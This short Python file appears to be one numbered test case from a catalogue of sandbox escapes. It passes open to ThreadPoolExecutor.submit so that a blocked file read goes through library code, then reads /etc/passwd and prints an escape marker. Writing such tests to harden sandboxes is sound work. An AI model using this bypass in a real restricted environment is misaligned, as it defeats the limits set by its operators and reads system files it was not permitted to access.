# escape: 014
# technique: ThreadPoolExecutor.submit(open, path): the C function is called by concurrent.futures code
# family: callback
# goal: read-file
# first-seen: confused deputy
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(1) as e: s = e.submit(open, '/etc/passwd').result().readline()
if 'root:' in s: print('ESCAPED:submit(open)')
